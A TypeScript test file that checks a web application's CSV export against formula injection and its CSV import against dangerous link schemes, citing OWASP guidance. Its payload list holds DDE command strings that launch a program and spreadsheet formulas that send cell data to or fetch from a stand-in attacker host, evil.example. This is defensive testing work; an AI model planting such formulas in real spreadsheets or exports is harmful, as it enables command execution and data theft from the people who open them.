import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { startWorld, type World } from "#tests/security/access-world.ts";
import { expectHarmlessLink } from "#tests/security/harmless-link.ts";
import { dangerousLinks } from "#tests/security/injection-payloads.ts";

const dangerousCells: readonly string[] = [
  "=1+1",
  '=HYPERLINK("https://evil.example?"&A1)',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "+cmd|' /C calc'!A0",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "@evil",
  '=IMPORTXML("https://evil.example")',
  '=IMAGE("https://evil.example")',
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  "==1",
  '="a";="b"',
  "=1,=2",
];

let world: World;
beforeAll(async () => {
  world = await startWorld();
}, 30_000);
afterAll(() => world.stop());

/** Source: OWASP ASVS 5.0, 1.2.10; OWASP CSV Injection; RFC 4180, 2.6 and 2.7. */
describe("cells of a CSV file", () => {
  test("never start with a formula character", async () => {
    const names = dangerousCells.map((cell, index) => `${cell} no. ${"abcdefghijklmnopqrstuvwxyz"[index]}`);
    const text = names.map(
      (name) => `"${name.replaceAll('"', '""')}",example.com,"${name.replaceAll('"', '""')}"`,
    );
    await world.post("/manager/repositories/import/confirm", {
      text: `name,link,description\n${text.join("\n")}`,
    });
    for (const [index, name] of names.entries()) {
      await world.post("/manager/users/new", { name, email: `cell-${index}@example.org`, role: "user" });
    }
    for (const [path, column] of [
      ["/manager/repositories/export", 0],
      ["/manager/users/export", 0],
    ] as const) {
      const rows: string[][] = parse((await world.send(path, { as: world.administrator })).body, {
        bom: true,
      });
      for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/u);
      // Each has an apostrophe in front, and after what another program takes for a separator.
      const written = new Set(rows.map((row) => row[column]));
      for (const name of names) expect(written, path).toContain(`'${name.replaceAll(/(?<=[,;])=/g, "'=")}`);
    }
  });
});

/** Source: OWASP ASVS 5.0, 1.2.2 (URL protocols). */
test.each(dangerousLinks.map((link, index) => [link, index] as const))(
  "the imported link %j is refused or becomes harmless",
  async (link, index) => {
    // The second row shows that the file was imported.
    const text = `name,link\nDangerous ${index},"${link.replaceAll('"', '""')}"\nHarmless ${index},example.com/${index}`;
    await world.post("/manager/repositories/import/confirm", { text });
    const sql = "SELECT link FROM repository WHERE name = ?";
    const linksOf = async (name: string) =>
      (await world.server.query<{ link: string }>(sql, `${name} ${index}`)).map((row) => row.link);
    expect(await linksOf("Harmless")).toEqual([`https://example.com/${index}`]);
    (await linksOf("Dangerous")).forEach(expectHarmlessLink);
  },
);
